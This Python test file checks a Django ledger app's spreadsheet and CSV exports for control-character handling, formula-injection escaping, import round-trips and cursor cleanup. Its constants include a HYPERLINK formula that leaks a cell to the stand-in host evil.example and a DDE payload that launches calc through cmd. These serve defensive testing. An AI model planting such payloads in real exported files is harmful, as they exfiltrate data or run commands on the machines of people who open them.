"""Issue 8, defects 1, 2 (writer side) and 3: exports survive control characters, never carry
live formulas, read back unchanged on import, and a failed export leaves no cursor open."""

import csv
import io

import openpyxl
import pytest
from django.db import connection

from campaign.choices import ImportStatus
from campaign.importing.reading import read_sheets
from campaign.models import Team
from ledger import services
from ledger.choices import Status
from ledger.models import LedgerExport, Problem
from ledger.sheets import assignment_sheet_issue
from ledger.tests.excel_helpers import read_rows
from ledger.tests.factories import problem_in, record
from ledger.transfer import export as exporting
from ledger.transfer import services as transfer
from ledger.transfer.export import write_history, write_ledger

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
FORMULAS = [HYPERLINK, DDE, "-5 apples", "+86 21 5741 0000", "@SUM(1+1)", "＝SUM(1)", "\t=1+1"]
# Text that itself begins with an apostrophe before a formula character.
QUOTED = "'=already quoted"


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def stored(problem, **fields) -> Problem:
    """Text as it sits in the database, exactly: from before control characters were refused
    at input (forms, API and imports refuse them now), or with the leading tab that recording
    trims. Exports must cope with whatever is there."""
    Problem.objects.filter(pk=problem.pk).update(**fields)
    problem.refresh_from_db()
    return problem


def cells(data: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(data: bytes) -> list:
    """Every cell of the workbook: none is a formula; returns the cells' values."""
    found = cells(data)
    assert [cell.coordinate for cell in found if cell.data_type == "f"] == []
    return [cell.value for cell in found]


# --- Defect 2: one control character broke every export --------------------------------------


def test_a_control_character_in_a_description_does_not_break_the_ledger_export(city, login):
    problem = stored(record(city), description="water leak\u0001 near gate\u0085",
                                           address="甲路\u001f 1 号")
    for url in ("/ledger/problems/export/", "/api/problems/export/"):
        for user in (city.hq, city.district_lead, city.unit_handler):
            response = login(user).get(url)
            assert response.status_code == 200, (url, user)
            row = read_rows(body(response))[1]
            assert row[1] == problem.code
            assert row[6] == "甲路 1 号" and row[7] == "water leak near gate"


def test_a_control_character_does_not_fail_the_background_export(city):
    stored(record(city), description="water leak\u0001 near gate")
    export = LedgerExport.objects.create(requested_by=city.hq, filters={}, language="en")

    done = transfer.ledger_export_run(export_id=export.pk)

    assert done.status == ImportStatus.DONE, done.failure
    assert read_rows(done.file.open("rb").read())[1][7] == "water leak near gate"


def test_a_control_character_does_not_reach_the_history_csv(city):
    problem = record(city)
    Team.objects.filter(pk=problem.team_id).update(name="卫生\u0001专班")

    out = io.StringIO()
    write_history(Problem.objects.all(), out)

    assert out.getvalue().startswith("\ufeff")  # Excel reads it as UTF-8, not GB18030
    rows = list(csv.DictReader(io.StringIO(out.getvalue()[1:])))
    assert rows[0]["team"] == "卫生专班"


# --- Defect 3: formula injection ----------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_descriptions_and_addresses_export_as_text_not_formulas(city, login, text):
    problem = stored(record(city), description=text, address=text)
    for url in ("/ledger/problems/export/", "/api/problems/export/"):
        data = body(login(city.hq).get(url))
        values = assert_no_formula(data)
        assert values.count(text) == 2, values  # the description and the address, as written
        row = read_rows(data)[1]
        assert row[1] == problem.code and row[6] == text and row[7] == text


def test_formula_like_text_in_the_history_csv_is_escaped_and_reads_back_unchanged(city):
    problem = record(city)
    Team.objects.filter(pk=problem.team_id).update(name="-卫生专班")
    services.problem_invalidate(problem=problem, reason=HYPERLINK, by=city.hq)

    out = io.StringIO()
    write_history(Problem.objects.all(), out)

    # As Excel or WPS would open it: text behind an apostrophe, never a formula.
    rows = list(csv.DictReader(io.StringIO(out.getvalue()[1:])))
    assert rows[0]["team"] == "'-卫生专班" and rows[1]["note"] == "'" + HYPERLINK
    # As the importer reads it: the original text.
    (sheet,) = read_sheets(out.getvalue().encode("utf-8"))
    values = [value for _number, row in sheet.rows for value in row]
    assert "-卫生专班" in values and HYPERLINK in values


def test_the_assignment_sheet_writes_formula_like_text_as_text(city, login):
    problem = problem_in(city, Status.ASSIGNED)
    stored(problem, description=HYPERLINK + "\u0001", address=DDE)
    sheet = assignment_sheet_issue(unit=city.office_a, problems=[problem], by=city.hq, note="-限期整改")

    response = login(city.district_lead).get(f"/ledger/sheets/{sheet.pk}/sheet.xlsx")

    assert response.status_code == 200
    values = assert_no_formula(body(response))
    assert HYPERLINK in values


def test_export_then_import_round_trips_formula_like_descriptions_and_addresses(city):
    texts = [text for text in FORMULAS if text.strip() == text] + [QUOTED]  # the importer trims
    for text in texts:
        record(city, description=text, address=text.upper())
    # A copy into a ledger that lacks these codes: the export opened, its codes cleared, saved.
    workbook = openpyxl.load_workbook(io.BytesIO(_export(Problem.objects.all())))
    for (code,) in workbook.active.iter_rows(min_row=2, min_col=2, max_col=2):
        code.value = None
    copy = io.BytesIO()
    workbook.save(copy)

    record_, plan = transfer.ledger_import_preview(user=city.hq, file_name="copy.xlsx", data=copy.getvalue())
    assert plan.errors == []
    transfer.ledger_import_confirm(user=city.hq, record=record_)

    copies = Problem.objects.filter(events__note__startswith="Imported from copy.xlsx")
    assert sorted(copies.values_list("description", "address")) == sorted(
        (text, text.upper()) for text in texts)


def _export(queryset) -> bytes:
    buffer = io.BytesIO()
    write_ledger(queryset.order_by("-found_at", "-id"), buffer, language="en")
    return buffer.getvalue()


# --- Defect 1: a failed export froze a later request ---------------------------------------------


@pytest.mark.postgres
def test_a_failed_export_closes_its_server_side_cursor_at_once(city, monkeypatch):
    for _n in range(6):
        record(city)
    monkeypatch.setattr(exporting, "CHUNK_SIZE", 2)
    written = []

    def failing_cells(number, *args):
        if number == 3:
            raise OSError("disk full")
        written.append(number)
        return original_cells(number, *args)

    original_cells = exporting.problem_cells
    monkeypatch.setattr(exporting, "problem_cells", failing_cells)

    with pytest.raises(OSError) as failure:
        write_ledger(Problem.objects.all(), io.BytesIO(), language="en")

    # The traceback (kept here, as a logging handler or a debugger would) still holds the
    # export's frame: the cursor must be closed by then, not when the collector gets to it.
    assert failure.value is not None and written == [1, 2]
    with connection.cursor() as cursor:
        cursor.execute("SELECT name FROM pg_cursors")
        assert cursor.fetchall() == []
